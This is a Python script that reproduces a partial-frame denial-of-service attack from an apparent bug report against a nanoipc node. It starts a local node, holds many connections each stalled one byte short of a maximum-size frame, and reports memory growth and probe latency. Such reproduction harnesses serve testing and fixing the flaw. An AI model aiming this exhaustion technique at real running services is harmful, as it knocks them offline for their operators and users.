#!/usr/bin/env python3
"""Issue 8's partial-frame attack against a running binary: N connections each send a
max-size frame minus its last byte; prints the node's peak RSS (VmHWM) and how long an
IsAlive on a fresh connection takes meanwhile.

usage: attack_partial_frames.py <nanoipc binary> [connections=40] [frame MiB=32]
"""
import os, socket, struct, subprocess, sys, tempfile, threading, time

binary = sys.argv[1]
conns = int(sys.argv[2]) if len(sys.argv) > 2 else 40
size = (int(sys.argv[3]) if len(sys.argv) > 3 else 32) << 20

d = tempfile.mkdtemp()
sock = os.path.join(d, "sock")
with open(os.path.join(d, "config-node.toml"), "w") as f:
    f.write('[node]\nnetwork = "dev"\n[node.ipc]\nmax_request_size = %d\n'
            '[node.ipc.local]\npath = "%s"\nio_timeout = 120\n' % (size, sock))
node = subprocess.Popen([binary, "node", "--data-path", d], stderr=subprocess.DEVNULL)
while not os.path.exists(sock):
    time.sleep(0.05)

def status(key):
    with open("/proc/%d/status" % node.pid) as f:
        for line in f:
            if line.startswith(key):
                return int(line.split()[1]) // 1024

def probe():
    s = socket.socket(socket.AF_UNIX)
    s.connect(sock)
    body = b'{"action":"block_count"}'
    start = time.monotonic()
    s.sendall(b"N\x01\x00\x00" + struct.pack(">I", len(body)) + body)
    n = struct.unpack(">I", s.recv(4, socket.MSG_WAITALL))[0]
    s.recv(n, socket.MSG_WAITALL)
    s.close()
    return (time.monotonic() - start) * 1000

chunk = b" " * (1 << 20)
sent = [0] * conns
def attack(i):
    s = socket.socket(socket.AF_UNIX)
    s.connect(sock)
    s.sendall(b"N\x01\x00\x00" + struct.pack(">I", size))
    left = size - 1
    try:
        while left:
            n = s.send(chunk[:min(left, len(chunk))])
            left -= n
            sent[i] += n
    except OSError:
        pass
    time.sleep(3600)

base = status("VmRSS")
for i in range(conns):
    threading.Thread(target=attack, args=(i,), daemon=True).start()
last, stable = -1, 0
while stable < 10:  # until the bytes the node accepts stop growing for 1 s
    time.sleep(0.1)
    total = sum(sent)
    stable = stable + 1 if total == last else 0
    last = total
print("connections %d x %d MiB frames; bytes sent before the node stopped reading: %d MiB"
      % (conns, size >> 20, last >> 20))
print("probe latency %.1f ms" % probe())
print("RSS before %d MiB, now %d MiB, peak %d MiB" % (base, status("VmRSS"), status("VmHWM")))
node.terminate()
node.wait()
